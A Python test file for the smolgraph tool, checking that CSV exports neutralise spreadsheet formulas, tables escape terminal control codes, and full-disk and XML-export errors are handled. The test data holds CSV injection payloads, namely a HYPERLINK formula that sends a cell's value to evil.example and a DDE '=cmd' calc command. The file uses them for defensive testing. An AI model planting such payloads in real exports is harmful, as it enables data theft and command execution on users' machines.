"""What leaves smolgraph is safe where it lands: CSV in a spreadsheet, text on a terminal, a full disk (issue 15 items 7, 10, 12)."""
from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from smolgraph.cli import format_rows

ROWS = [{"title": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "n": -3, "who": "@SUM(1+1)", "note": "+7 (495)"}]
VARS = ["title", "n", "who", "note"]


def test_csv_cells_that_start_a_formula_are_written_as_text(monkeypatch):
    monkeypatch.delenv("SMOLGRAPH_CSV_FORMULAS", raising=False)
    [row] = list(csv.DictReader(io.StringIO(format_rows(ROWS, VARS, "csv"))))
    assert row["title"].startswith("'=HYPERLINK(")
    assert row["who"] == "'@SUM(1+1)" and row["note"] == "'+7 (495)"
    assert row["n"] == "-3"  # a number stays a number


def test_formulas_can_be_kept_on_request(monkeypatch):
    monkeypatch.setenv("SMOLGRAPH_CSV_FORMULAS", "keep")
    [row] = list(csv.DictReader(io.StringIO(format_rows(ROWS, VARS, "csv"))))
    assert row["title"] == ROWS[0]["title"]


def test_network_csv_is_guarded_too(tmp_path, monkeypatch):
    import networkx as nx

    from smolgraph.network.exports import write_csv

    monkeypatch.delenv("SMOLGRAPH_CSV_FORMULAS", raising=False)
    G = nx.Graph()
    G.add_node("a", label="=cmd|' /C calc'!A0")
    G.add_node("b", label="Минск")
    G.add_edge("a", "b", weight=1)
    nodes, _ = write_csv(G, tmp_path)
    labels = {r["id"]: r["label"] for r in csv.DictReader(nodes.open(encoding="utf-8"))}
    assert labels == {"a": "'=cmd|' /C calc'!A0", "b": "Минск"}


def test_a_table_shows_terminal_escapes_instead_of_sending_them():
    out = format_rows([{"title": "Минск\x1b[2J\x07"}], ["title"], "table")
    assert "\x1b" not in out and "\x07" not in out
    assert "Минск\\x1b[2J\\x07" in out


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full here")
def test_a_full_disk_is_a_message_not_a_traceback(tmp_path):
    code = "import sys; from smolgraph.cli import main; sys.exit(main())"
    store = tmp_path / "store"
    with open("/dev/full", "w") as full:
        done = subprocess.run([sys.executable, "-c", code, "--store", str(store), "ask"], stdout=full,
                              stderr=subprocess.PIPE, text=True, timeout=120)
    assert done.returncode == 2
    assert "cannot write the output: No space left on device" in done.stderr
    assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr


def test_network_xml_exports_stay_well_formed_with_control_characters(tmp_path):
    from xml.dom import minidom

    import networkx as nx

    from smolgraph.network.exports import write_gexf, write_graphml

    G = nx.Graph()
    G.add_node("a\x00", label="Минск\x1b[2J", start="2025-01-10", end="2025-01-10")
    G.add_node("b", label="Витебск", start="2025-01-10", end="2025-01-10")
    G.add_edge("a\x00", "b", weight=1, start="2025-01-10", end="2025-01-10")
    for write, name in ((write_gexf, "g.gexf"), (write_graphml, "g.graphml")):
        path = write(G, tmp_path / name)
        minidom.parse(str(path))  # raises on XML that is not well formed
        assert "\x1b" not in path.read_text(encoding="utf-8")
